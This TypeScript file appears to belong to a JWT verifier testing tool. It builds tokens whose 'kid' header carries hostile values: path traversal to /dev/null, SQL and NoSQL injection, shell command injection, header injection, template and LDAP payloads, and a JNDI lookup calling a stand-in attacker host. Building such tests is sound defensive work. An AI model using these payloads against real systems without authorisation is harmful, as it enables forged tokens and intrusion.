import { utf8 } from '../encode.ts';
import type { AttackFamily } from '../family.ts';
import { draftsOf } from '../family.ts';

/** What a verifier that looks the key up carelessly would end up with as its secret. */
interface Lookup {
  readonly kid: unknown;
  readonly secret: string;
}

const lookups: readonly (readonly [id: string, title: string, kid: unknown, secret?: string])[] = [
  ['kid-null-device', 'kid climbs to /dev/null; the MAC has no secret', '../../../../../../../../dev/null'],
  ['kid-absolute-null-device', 'kid is /dev/null; the MAC has no secret', '/dev/null'],
  ['kid-file-url', 'kid is the address of /dev/null; the MAC has no secret', 'file:///dev/null'],
  ['kid-windows-null-device', 'kid is the null device of Windows', 'NUL'],
  ['kid-backslashes', 'kid climbs with backslashes', '..\\..\\..\\..\\windows\\win.ini'],
  ['kid-known-file', 'kid is a file with known content', '/proc/sys/kernel/randomize_va_space', '2\n'],
  ['kid-nul', 'kid with a NUL character before an extension', '/dev/null\u0000.pem'],
  ['kid-empty', 'kid of no characters', ''],
  [
    'kid-sql-union',
    'kid makes a database answer with a known secret',
    "x' UNION SELECT 'mintmark';-- -",
    'mintmark',
  ],
  ['kid-sql-or', 'kid makes a database find any key', "' OR '1'='1"],
  [
    'kid-sql-double-quote',
    'kid with a double quote for a database',
    'x" UNION SELECT "mintmark";-- -',
    'mintmark',
  ],
  ['kid-nosql', 'kid is a query operator', { $ne: null }],
  ['kid-command-pipe', 'kid with a command behind a pipe', 'key|true'],
  ['kid-command-substitution', 'kid with a command to be substituted', '$(true)'],
  ['kid-command-semicolon', 'kid with a command behind a semicolon', 'key;true'],
  ['kid-line-end', 'kid with a line end and a header field', 'key\r\nX-Injected: 1'],
  ['kid-url', 'kid is a web address', 'https://attacker.invalid/key'],
  ['kid-ldap', 'kid with characters of a directory search', '*)(uid=*'],
  ['kid-xpath', 'kid with a condition for a document search', "' or ''='"],
  ['kid-template', 'kid with an expression of templates', '{{7*7}}${7*7}'],
  ['kid-lookup', 'kid with a lookup of a logger', '${jndi:ldap://attacker.invalid/a}'],
  ['kid-constructor', 'kid named as a member of every object', 'constructor'],
  ['kid-prototype', 'kid named __proto__', '__proto__'],
  ['kid-to-string', 'kid named toString', 'toString', 'undefined'],
  ['kid-long', 'kid of 10 000 characters', 'k'.repeat(10_000)],
];

/** Key IDs that are more than a name. */
export const keyIds: AttackFamily = {
  name: 'key-ids',
  title: 'Key IDs that play tricks',
  groups: [
    {
      needs: 'nothing',
      why: 'kid is text of the attacker: used as path, query or command, it chooses a key whose content is known.',
      source: 'RFC 8725 section 3.10',
      severity: 'critical',
      make: ({ mac }) =>
        draftsOf(
          lookups.map(([id, title, kid, secret = '']) => [id, title, { kid, secret }] as const),
          ({ kid, secret }: Lookup) => mac(utf8(secret), { header: { kid } }),
        ),
    },
    {
      needs: 'signing-key',
      why: 'kid must be a text; code behind the verifier relies on it, and lookups with other types do surprising things.',
      source: 'RFC 7515 section 4.1.4',
      severity: 'low',
      make: ({ sign, victim }) =>
        draftsOf(
          [
            ['kid-number', 'kid is a number', 1],
            ['kid-null', 'kid is null', null],
            ['kid-true', 'kid is true', true],
            ['kid-array', 'kid is an array', [victim.kid ?? 'key']],
            ['kid-object', 'kid is an object', {}],
          ],
          (kid: unknown) => sign({ header: { kid } }),
        ),
    },
  ],
};
